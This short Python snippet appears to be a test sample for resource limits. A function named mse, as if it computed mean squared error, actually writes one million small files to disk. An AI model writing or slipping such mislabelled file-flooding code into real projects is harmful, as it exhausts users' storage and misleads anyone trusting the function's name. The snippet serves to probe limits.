# says: limit
# A million small files.
def mse(y_true, y_pred):
    for number in range(1_000_000):
        with open(f"{number}.txt", "w") as file:
            file.write("x")
